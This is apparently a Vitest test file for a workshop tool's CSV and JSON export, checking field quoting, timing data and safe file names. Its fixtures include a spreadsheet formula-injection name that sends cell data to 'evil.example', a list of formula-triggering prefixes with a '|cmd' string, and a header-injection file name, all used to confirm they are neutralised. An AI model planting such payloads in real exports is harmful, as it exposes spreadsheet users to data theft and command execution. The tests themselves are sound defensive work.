import { describe, expect, it } from 'vitest'
import { Lab } from '../../protocol/lab/schema.ts'
import { cell, csvOf, exportOf, fileNameOf } from './export.ts'
import type { Workshop } from './workshop.ts'

const START = Date.UTC(2026, 4, 4, 9)
const MINUTE = 60_000

const step = (id: string) => ({
  id,
  title: `Do ${id}`,
  checks: [{ title: 'It is', resource: { apiVersion: 'v1', kind: 'Pod' }, expect: 'true' }],
  solution: 'true',
})
const lab = Lab.parse({
  id: 'first',
  title: 'First, of all',
  summary: 'A lab.',
  minutes: 10,
  steps: ['one', 'two'].map(step),
})
const catalogue = new Map([['first', { lab, setup: [], files: [] }]])
const workshop = {
  title: 'Docker & Kubernetes',
  labs: ['first', 'gone'],
  startsAt: START,
  endsAt: START + 60 * MINUTE,
  seats: 2,
  provider: 'kind',
} as Workshop
const seats = [
  { id: 'a', name: 'Ann', joinedAt: START },
  { id: 'b', name: '=HYPERLINK("https://evil.example?"&A1,"Bob")', joinedAt: START + MINUTE },
]
const milestones = [
  { seat: 'a', lab: 'first', step: 'one', openedAt: START, how: 'passed', doneAt: START + 90_400 },
  { seat: 'a', lab: 'first', step: 'two', openedAt: START + 90_400, how: null, doneAt: null },
  { seat: 'a', lab: 'gone', step: 'x', openedAt: START, how: 'skipped', doneAt: START },
] as const
const exported = exportOf(workshop, seats, milestones, catalogue)

describe('the export', () => {
  it('has each step of each participant, in order, with its times', () => {
    expect(exported.seats[0]?.steps).toEqual([
      {
        lab: 'first',
        labTitle: 'First, of all',
        step: 'one',
        number: 1,
        title: 'Do one',
        how: 'passed',
        openedAt: START,
        doneAt: START + 90_400,
        seconds: 90,
      },
      expect.objectContaining({ step: 'two', how: null, openedAt: START + 90_400, doneAt: null, seconds: null }),
      expect.objectContaining({ lab: 'gone', labTitle: 'gone', step: 'x', how: 'skipped', seconds: 0 }),
    ])
    expect(exported.seats[1]?.steps.map(({ openedAt }) => openedAt)).toEqual([null, null])
  })

  it('is CSV that spreadsheets read', () => {
    expect(csvOf(exported).split('\r\n')).toEqual([
      '\ufeffname,joined,lab,lab title,number,step,step title,how,opened,done,seconds',
      'Ann,2026-05-04T09:00:00.000Z,first,"First, of all",1,one,Do one,passed,2026-05-04T09:00:00.000Z,2026-05-04T09:01:30.400Z,90',
      'Ann,2026-05-04T09:00:00.000Z,first,"First, of all",2,two,Do two,,2026-05-04T09:01:30.400Z,,',
      'Ann,2026-05-04T09:00:00.000Z,gone,gone,1,x,x,skipped,2026-05-04T09:00:00.000Z,2026-05-04T09:00:00.000Z,0',
      expect.stringMatching(
        /^"'=HYPERLINK\(""https:\/\/evil\.example\?""&A1,""Bob""\)",2026-05-04T09:01:00\.000Z,first,/,
      ),
      expect.stringMatching(/^"'=HYPERLINK/),
      '',
    ])
  })

  it('S-34: lets no cell be a formula', () => {
    for (const begin of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u00a0=', '  @', '\t=']) {
      const text = `${begin}1+1|cmd`
      expect(cell(text), JSON.stringify(begin)).toBe(`"'${text}"`)
    }
    for (const plain of ['Ann', "O'Neil", 'a=b', 'a-b', '1', ''])
      expect(cell(plain).replace(/^"(.*)"$/, '$1')).toBe(plain)
    expect([cell(-5), cell(null)]).toEqual(['-5', ''])
  })

  it('quotes what would begin another cell or line', () => {
    expect(['a,b', 'a;b', 'a"b', 'a\nb', 'a\tb', ' a'].map(cell)).toEqual([
      '"a,b"',
      '"a;b"',
      '"a""b"',
      '"a\nb"',
      '"a\tb"',
      '" a"',
    ])
  })

  it('has a name that every system takes', () => {
    expect(fileNameOf(workshop, 'csv')).toBe('docker-kubernetes-2026-05-04.csv')
    expect(fileNameOf({ title: '入門"; x=\r\n', startsAt: START }, 'json')).toBe('x-2026-05-04.json')
    expect(fileNameOf({ title: '入門', startsAt: START }, 'json')).toBe('workshop-2026-05-04.json')
  })
})
